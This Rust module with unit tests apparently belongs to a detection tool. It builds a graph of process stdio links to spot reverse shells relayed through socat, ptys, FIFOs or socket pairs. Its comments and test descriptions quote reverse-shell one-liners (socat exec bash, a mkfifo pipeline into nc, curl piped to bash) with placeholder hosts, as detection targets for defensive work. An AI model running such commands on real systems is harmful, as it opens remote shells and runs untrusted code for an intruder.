//! Who relays whom: where a process's stdin and stdout lead, through a pty, a pipe, a FIFO or a
//! unix socket pair, and which process holding an internet socket sits at the other end.
//!
//! A reverse shell run through a relay (`socat tcp:HOST:PORT exec:'bash -li',pty`, python's
//! `pty.spawn`, `script`, a `mkfifo` pipeline into `nc`) keeps the network socket in the relay,
//! not in the shell: the shell's descriptors 0 and 1 lead to the relay. One pure graph, used twice:
//! by collection, to decide which processes that hold no socket still belong in the snapshot, and
//! by the rule engine, to answer `process.relays.*` once per snapshot.
//!
//! A hop follows data: stdin comes from the other end's writer (a pipe or FIFO on its fd 1 or 2,
//! the pty master's holder, the unix peer's holder), stdout goes to the other end's reader (fd
//! 0, the master's holder, the peer's holder). From a process that holds no internet socket the
//! walk continues on the same side (its own stdin, or stdout), at most [`MAX_HOPS`] hops.

use std::collections::{BTreeSet, HashMap};

use super::{FdKind, StdioLink};

/// How many processes a walk may pass through before it reaches a socket holder (`script`
/// under `socat` is two; `cat FIFO | sh | nc > FIFO` is two on stdin).
pub const MAX_HOPS: usize = 4;

/// One process as the graph sees it.
#[derive(Debug, Clone, Default)]
pub struct Node {
    /// Its pid.
    pub pid: u32,
    /// Descriptors 0, 1 and 2 (fewer when unread).
    pub stdio: Vec<StdioLink>,
    /// pty indexes whose master it holds.
    pub pty_masters: Vec<u32>,
    /// It holds a TCP or UDP socket.
    pub inet: bool,
}

/// The graph: nodes, and the indexes that find the other end of a channel.
pub struct Graph<'n> {
    nodes: &'n [Node],
    /// Pipe or FIFO inode → (node, fd) holding it on stdio.
    channel: HashMap<u64, Vec<(usize, u32)>>,
    /// pty index → nodes holding its master.
    masters: HashMap<u32, Vec<usize>>,
    /// Unix socket inode on some node's stdio → the nodes holding its peer.
    peers: HashMap<u64, Vec<usize>>,
}

/// One relay found: `relay` (an internet-socket holder) is at the far end of both stdin and
/// stdout of `relayed`; `path` holds every node the walks passed through, both ends included.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Relay {
    /// Index of the relaying node.
    pub relay: usize,
    /// Index of the relayed node.
    pub relayed: usize,
    /// Every node on the way, sorted.
    pub path: Vec<usize>,
}

/// Which side a walk follows.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Side {
    In,
    Out,
}

impl<'n> Graph<'n> {
    /// Indexes `nodes`; `unix_peer_holders` gives, for a unix socket inode found on some stdio,
    /// the pids holding its connected peer (empty when unknown).
    pub fn new(nodes: &'n [Node], unix_peer_holders: impl Fn(u64) -> Vec<u32>) -> Graph<'n> {
        let by_pid: HashMap<u32, usize> =
            nodes.iter().enumerate().map(|(i, n)| (n.pid, i)).collect();
        let mut channel: HashMap<u64, Vec<(usize, u32)>> = HashMap::new();
        let mut masters: HashMap<u32, Vec<usize>> = HashMap::new();
        let mut peers: HashMap<u64, Vec<usize>> = HashMap::new();
        for (i, n) in nodes.iter().enumerate() {
            for l in &n.stdio {
                match (l.kind, l.inode) {
                    (FdKind::Pipe | FdKind::Fifo, Some(ino)) => {
                        channel.entry(ino).or_default().push((i, l.fd));
                    }
                    (FdKind::Socket, Some(ino)) if !peers.contains_key(&ino) => {
                        let holders = unix_peer_holders(ino)
                            .into_iter()
                            .filter_map(|p| by_pid.get(&p).copied())
                            .collect();
                        peers.insert(ino, holders);
                    }
                    _ => {}
                }
            }
            for &m in &n.pty_masters {
                masters.entry(m).or_default().push(i);
            }
        }
        Graph {
            nodes,
            channel,
            masters,
            peers,
        }
    }

    /// The nodes at the other end of `from`'s descriptor on `side`.
    fn next(&self, from: usize, side: Side) -> Vec<usize> {
        let fd = if side == Side::In { 0 } else { 1 };
        let mut out: Vec<usize> = match self.nodes[from].stdio.iter().find(|l| l.fd == fd) {
            None => Vec::new(),
            Some(l) => match (l.kind, l.inode) {
                (FdKind::Pipe | FdKind::Fifo, Some(ino)) => self.ends(ino, from, side),
                (FdKind::Socket, Some(ino)) => self.peers.get(&ino).cloned().unwrap_or_default(),
                (FdKind::Pty, _) => pty_index(l)
                    .and_then(|n| self.masters.get(&n).cloned())
                    .unwrap_or_default(),
                _ => Vec::new(),
            },
        };
        if side == Side::In {
            // FIFOs a process reads on a higher descriptor (`cat FIFO`): more inputs.
            for l in &self.nodes[from].stdio {
                if let (true, FdKind::Fifo, Some(ino)) = (l.fd > 2, l.kind, l.inode) {
                    out.extend(self.ends(ino, from, side));
                }
            }
        }
        out.retain(|&n| n != from);
        out.sort_unstable();
        out.dedup();
        out
    }

    /// The other ends of pipe or FIFO `ino` for a walk on `side` from `from`: its writers
    /// (descriptors 1 and 2) for stdin, its readers (descriptor 0, or a FIFO on a higher one)
    /// for stdout.
    fn ends(&self, ino: u64, from: usize, side: Side) -> Vec<usize> {
        self.channel
            .get(&ino)
            .into_iter()
            .flatten()
            .filter(|(n, f)| *n != from && (side == Side::In) == matches!(f, 1 | 2))
            .map(|(n, _)| *n)
            .collect()
    }

    /// The processes where a walk from a shell's stdin stopped although its stdout reaches a
    /// socket holder: pipeline stages (`cat FIFO | sh -i | nc ... > FIFO`) that may read a FIFO
    /// on a descriptor above 2, which only a read of their whole fd table shows. Sorted.
    pub fn input_dead_ends(&self) -> Vec<usize> {
        let mut out = BTreeSet::new();
        for i in 0..self.nodes.len() {
            if !self.nodes[i].stdio.iter().any(|l| linkable(l.kind)) {
                continue;
            }
            if self.reach(i, Side::Out).0.is_empty() {
                continue;
            }
            let (ins, seen) = self.reach(i, Side::In);
            if ins.is_empty() {
                out.extend(seen.into_iter().filter(|&n| n != i));
            }
        }
        out.into_iter().collect()
    }

    /// The internet-socket holders `start`'s `side` leads to, and every node passed.
    fn reach(&self, start: usize, side: Side) -> (BTreeSet<usize>, BTreeSet<usize>) {
        let mut found = BTreeSet::new();
        let mut seen = BTreeSet::from([start]);
        let mut frontier = vec![start];
        for _ in 0..MAX_HOPS {
            let mut next = Vec::new();
            for &x in &frontier {
                for h in self.next(x, side) {
                    if !seen.insert(h) {
                        continue;
                    }
                    if self.nodes[h].inet {
                        found.insert(h);
                    } else {
                        next.push(h);
                    }
                }
            }
            if next.is_empty() {
                break;
            }
            frontier = next;
        }
        (found, seen)
    }

    /// Every relay: for each node, the internet-socket holders at the far end of both its stdin
    /// and its stdout. Sorted by (relay, relayed).
    pub fn relays(&self) -> Vec<Relay> {
        let mut out = Vec::new();
        for i in 0..self.nodes.len() {
            if !self.nodes[i].stdio.iter().any(|l| linkable(l.kind)) {
                continue;
            }
            let (ins, in_path) = self.reach(i, Side::In);
            if ins.is_empty() {
                continue;
            }
            let (outs, out_path) = self.reach(i, Side::Out);
            for &r in ins.intersection(&outs) {
                let path: BTreeSet<usize> = in_path.union(&out_path).copied().collect();
                out.push(Relay {
                    relay: r,
                    relayed: i,
                    path: path.into_iter().collect(),
                });
            }
        }
        out.sort_by_key(|r| (r.relay, r.relayed));
        out
    }
}

/// Whether a descriptor of this kind can lead to another process.
fn linkable(k: FdKind) -> bool {
    matches!(
        k,
        FdKind::Pty | FdKind::Pipe | FdKind::Fifo | FdKind::Socket
    )
}

/// `N` of a `/dev/pts/N` link.
pub fn pty_index(l: &StdioLink) -> Option<u32> {
    let p = l.path.as_ref()?;
    std::str::from_utf8(p.as_bytes().strip_prefix(b"/dev/pts/")?)
        .ok()?
        .parse()
        .ok()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::ByteString;

    fn link(fd: u32, kind: FdKind, inode: Option<u64>, path: Option<&str>) -> StdioLink {
        StdioLink {
            fd,
            kind,
            path: path.map(ByteString::from),
            inode,
        }
    }
    fn pts(fd: u32, n: u32) -> StdioLink {
        link(fd, FdKind::Pty, None, Some(&format!("/dev/pts/{n}")))
    }
    fn pipe(fd: u32, ino: u64) -> StdioLink {
        link(fd, FdKind::Pipe, Some(ino), None)
    }

    /// socat holding a TCP socket and the master of pts/3, bash on pts/3.
    #[test]
    fn pty_relay() {
        let nodes = vec![
            Node {
                pid: 10,
                stdio: vec![link(0, FdKind::Null, None, Some("/dev/null"))],
                pty_masters: vec![3],
                inet: true,
            },
            Node {
                pid: 11,
                stdio: vec![pts(0, 3), pts(1, 3), pts(2, 3)],
                ..Node::default()
            },
            // A shell on another terminal: not relayed by socat.
            Node {
                pid: 12,
                stdio: vec![pts(0, 4), pts(1, 4)],
                ..Node::default()
            },
        ];
        let g = Graph::new(&nodes, |_| Vec::new());
        assert_eq!(
            g.relays(),
            vec![Relay {
                relay: 0,
                relayed: 1,
                path: vec![0, 1]
            }]
        );
    }

    /// `cat /tmp/f | sh -i 2>&1 | nc HOST PORT > /tmp/f`: two hops on stdin, one on stdout.
    #[test]
    fn fifo_pipeline() {
        let fifo = |fd| link(fd, FdKind::Fifo, Some(900), Some("/tmp/f"));
        let nodes = vec![
            Node {
                pid: 20, // cat
                stdio: vec![fifo(0), pipe(1, 1)],
                ..Node::default()
            },
            Node {
                pid: 21, // sh
                stdio: vec![pipe(0, 1), pipe(1, 2), pipe(2, 2)],
                ..Node::default()
            },
            Node {
                pid: 22, // nc
                stdio: vec![pipe(0, 2), fifo(1)],
                inet: true,
                ..Node::default()
            },
        ];
        let g = Graph::new(&nodes, |_| Vec::new());
        let r = g.relays();
        // cat is in the loop too (it reads from nc and feeds the shell): both are relayed.
        let pairs: Vec<(usize, usize)> = r.iter().map(|r| (r.relay, r.relayed)).collect();
        assert_eq!(pairs, vec![(2, 0), (2, 1)]);
        assert_eq!(r[1].path, vec![0, 1, 2]);
    }

    /// The classic one-liner: `cat F | sh -i 2>&1 | nc HOST PORT > F`, cat reading the FIFO on
    /// its fd 3. Without that descriptor the stdin walk stops at cat (a dead end to read).
    #[test]
    fn fifo_read_on_a_higher_descriptor() {
        let fifo = |fd| link(fd, FdKind::Fifo, Some(900), Some("/tmp/f"));
        let mut nodes = vec![
            Node {
                pid: 20, // cat
                stdio: vec![pts(0, 1), pipe(1, 1)],
                ..Node::default()
            },
            Node {
                pid: 21, // sh
                stdio: vec![pipe(0, 1), pipe(1, 2), pipe(2, 2)],
                ..Node::default()
            },
            Node {
                pid: 22, // nc
                stdio: vec![pipe(0, 2), fifo(1)],
                inet: true,
                ..Node::default()
            },
        ];
        let g = Graph::new(&nodes, |_| Vec::new());
        assert!(g.relays().is_empty());
        assert_eq!(g.input_dead_ends(), vec![0]);
        nodes[0].stdio.push(fifo(3));
        let g = Graph::new(&nodes, |_| Vec::new());
        let pairs: Vec<(usize, usize)> = g.relays().iter().map(|r| (r.relay, r.relayed)).collect();
        assert_eq!(pairs, vec![(2, 0), (2, 1)]);
    }

    /// `curl URL | bash`: stdin from a socket holder, stdout to the terminal: no relay.
    #[test]
    fn one_way_pipe_is_not_a_relay() {
        let nodes = vec![
            Node {
                pid: 30,
                stdio: vec![pts(0, 1), pipe(1, 5)],
                inet: true,
                ..Node::default()
            },
            Node {
                pid: 31,
                stdio: vec![pipe(0, 5), pts(1, 1)],
                ..Node::default()
            },
        ];
        assert!(Graph::new(&nodes, |_| Vec::new()).relays().is_empty());
    }

    /// socat without a pty: the shell's stdio is a unix socket pair whose peer socat holds.
    #[test]
    fn socketpair_relay() {
        let sock = |fd| link(fd, FdKind::Socket, Some(77), None);
        let nodes = vec![
            Node {
                pid: 40,
                inet: true,
                ..Node::default()
            },
            Node {
                pid: 41,
                stdio: vec![sock(0), sock(1)],
                ..Node::default()
            },
        ];
        let g = Graph::new(&nodes, |ino| if ino == 77 { vec![40] } else { vec![] });
        assert_eq!(g.relays().len(), 1);
    }
}
